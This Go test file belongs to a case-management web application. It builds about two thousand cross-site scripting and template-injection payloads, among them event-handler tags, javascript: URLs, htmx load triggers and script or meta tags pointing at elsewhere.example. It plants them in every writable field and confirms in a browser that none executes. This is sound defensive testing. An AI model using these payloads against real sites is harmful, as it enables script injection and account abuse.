package web_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"offramp/internal/access"
	"offramp/internal/app"
	"offramp/internal/tatm"
	"offramp/internal/testbed"
	"offramp/internal/web"
)

// payloads are texts that would run a script, ask elsewhere or give htmx
// something to do if they became markup: each tag with each handler in several
// spellings, and shapes that are no tag. Each would leave an element with the
// attribute zqhit, or window.zqhit.
func payloads() (out []string) {
	const run = `window.zqhit=1`
	tags := []string{"img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "select autofocus", "textarea autofocus", "iframe", "object data=x", "embed src=x", "marquee", "math", "style", "link rel=stylesheet href=x", "form", "button", "a href=x", "p", "meter", "isindex"}
	events := []string{"onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onanimationstart", "onbegin", "onpointerenter", "onstart", "hx-on:load", "hx-on::after-request", "hx-get='/keys' hx-trigger=load data-x", "hx-post='/sign-out' hx-trigger=load data-x", "hx-vals='js:{a:" + run + "}' hx-get='/keys' hx-trigger=load data-x"}
	for _, tag := range tags {
		for _, event := range events {
			for _, shape := range []string{`<%s zqhit %s="%s">`, `"><%s zqhit %s='%s'>`, `'/><%s/zqhit/%s=%s>`, "</textarea></title></script><%s\tzqhit\n%s=%s >", `&lt;/p&gt;<%s zqhit %s="%s"//`, "\u003c%s zqhit %s=%s\u003e"} {
				out = append(out, fmt.Sprintf(shape, tag, event, run))
			}
		}
	}
	return append(out,
		`<script zqhit>`+run+`</script>`, `<ScRiPt zqhit src=//elsewhere.example/x.js></ScRiPt>`, `</script><script zqhit>`+run+`</script>`, `<scr<script>ipt zqhit>`+run+`</scr</script>ipt>`,
		`javascript:`+run, `JaVaScRiPt:`+run, "java\tscript:"+run, `data:text/html,<script zqhit>`+run+`</script>`, `vbscript:x`,
		`{{constructor.constructor('`+run+`')()}}`, "${"+run+"}", `<%= `+run+` %>`, `#{`+run+`}`, `<!--><img zqhit src=x onerror=`+run+`>-->`, `<![CDATA[<img zqhit src=x onerror=`+run+`>]]>`,
		`<meta zqhit http-equiv=refresh content="0;url=//elsewhere.example/">`, `<base zqhit href=//elsewhere.example/>`, `<template zqhit shadowrootmode=open><img src=x onerror=`+run+`></template>`,
		"\u2028<img zqhit src=x onerror="+run+">\u2029", "\ufeff<img zqhit src=x onerror="+run+">", "\uff1cimg zqhit src=x onerror="+run+"\uff1e", `+ADw-img zqhit src=x onerror=`+run+`+AD4-`,
		`<div zqhit hx-ext="x" hx-disinherit="*" hx-get="//elsewhere.example/" hx-trigger="load"></div>`, `<button zqhit hx-delete="/cases" hx-trigger="load">x</button>`,
	)
}

// TestA4_05_06_Text: some two thousand texts that want to be markup, in every
// kind of place where people write, looked at in a browser on every page that
// shows them: none becomes an element, runs, or asks anything of anybody; the
// browser refuses nothing, for there is nothing to refuse.
func TestA4_05_06_Text(t *testing.T) {
	p, ok := testbed.Browser(t)
	if !ok {
		return
	}
	all := payloads()
	if len(all) < 2000 {
		t.Fatalf("only %d texts", len(all))
	}
	m := newTeam(t, testbed.Engines(t)["sqlite"])
	desk, seat := m.as(t, "Chair")
	at := writeTexts(t, m, desk, seat, all)
	m.be(t, p, "Chair")
	for _, tab := range web.Tabs() {
		at = append(at, at[0]+"/"+tab)
	}
	seen := 0
	for _, path := range append(at, "/", "/cases", "/caseload", "/reports", "/people", "/meetings", "/team", "/cases?q=%3Cimg%20zqhit%20src%3Dx%20onerror%3Dwindow.zqhit%3D1%3E", at[0]+"/do/message?text="+url.QueryEscape(all[0])) {
		if got := p.Open(m.desk.URL + path); got != 200 {
			t.Errorf("%s: status %d", path, got)
		}
		testbed.Eval[bool](p, `(document.querySelectorAll("details").forEach(d => { d.open = true }), document.querySelectorAll("main a").forEach(a => a.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}))), true)`)
		if n := testbed.Eval[int](p, `document.querySelectorAll("[zqhit]").length + (window.zqhit ? 1 : 0)`); n > 0 {
			t.Errorf("%s: %d texts became markup", path, n)
		}
		seen += testbed.Eval[int](p, `(document.documentElement.innerHTML.match(/zqhit/g) || []).length`)
	}
	if seen < len(all) {
		t.Errorf("of %d texts %d were shown: the pages were not the ones", len(all), seen)
	}
	for _, r := range p.Requests() {
		if !strings.HasPrefix(r, m.desk.URL) && !strings.HasPrefix(r, "data:image/") {
			t.Errorf("a text asked elsewhere: %s", r)
		}
	}
	for _, bad := range p.Trouble() {
		t.Errorf("the browser says: %s", bad)
	}
	if got := testbed.Eval[string](p, `String(htmx.config.allowEval)`); got != "false" {
		t.Errorf("htmx may evaluate: %s", got)
	}
}

// writeTexts puts the texts where people write and returns where they show; the
// case is first.
func writeTexts(t *testing.T, m team, desk app.Desk, seat tatm.Seat, all []string) []string {
	t.Helper()
	ctx := t.Context()
	done := func(v app.Made, err error) app.Made {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	next := 0
	one := func() string { next++; return all[next*37%len(all)] }
	kase := done(desk.OpenCase(ctx, seat.Team, app.NewCase{Title: one(), Summary: one(), Subject: one(), Charge: tatm.Charge{Next: one(), By: m.app.Now().AddDate(0, 0, 1)}})).File
	for len(all) > 0 {
		var b strings.Builder
		for len(all) > 0 && b.Len()+len(all[0]) < 7000 {
			b.WriteString(all[0] + "\n")
			all = all[1:]
		}
		done(desk.AddObservation(ctx, kase, tatm.Observation{Text: b.String()}, app.Circumstance{}))
	}
	all = payloads()
	o := done(desk.AddObservation(ctx, kase, tatm.Observation{Text: one(), Source: one()}, app.Circumstance{})).Entry
	s, err := desk.StageFile(ctx, kase, `"><img zqhit src=x onerror=window.zqhit=1>.txt`, strings.NewReader(one()))
	if err != nil {
		t.Fatal(err)
	}
	done(desk.Attach(ctx, kase, o, []tatm.BlobID{s.ID}, app.Given{By: one()}))
	done(desk.PostMessage(ctx, kase, tatm.Message{Text: one()}, app.Becomes{}))
	done(desk.GiveTask(ctx, kase, tatm.Task{What: one(), Owner: desk.Who().ID, Due: m.app.Now().AddDate(0, 0, 1)}))
	done(desk.MakeDecision(ctx, kase, tatm.Decision{Question: one(), Decided: one(), Why: one(), How: "chair"}))
	done(desk.AddFactor(ctx, kase, tatm.Factor{Class: tatm.RiskFactor, Own: one(), Rating: tatm.NotKnown}, one(), app.Circumstance{}))
	report := done(desk.FileReport(ctx, seat.Team, tatm.Report{Narrative: one(), Who: one(), Where: one()}, tatm.Reporter{})).File
	done(desk.LinkReport(ctx, report, kase, one()))
	person := done(desk.FilePerson(ctx, seat.Team, tatm.Name{Given: one(), Family: one(), Type: tatm.LegalName})).File
	meeting := done(desk.CallMeeting(ctx, seat.Team, tatm.Meeting{When: m.app.Now().AddDate(0, 0, 1), Type: "routine", Place: one()})).File
	done(desk.WriteMinutes(ctx, meeting, 0, one(), ""))
	console := m.app.As(access.Actor{ID: "console", Org: m.org, Clock: true})
	if _, err := console.AddTeam(ctx, one()[:60], "county"); err != nil {
		t.Fatal(err)
	}
	return []string{"/cases/" + string(kase), "/cases/" + string(kase) + "/versions/" + string(o), "/reports/" + string(report), "/people/" + string(person), "/meetings/" + string(meeting)}
}
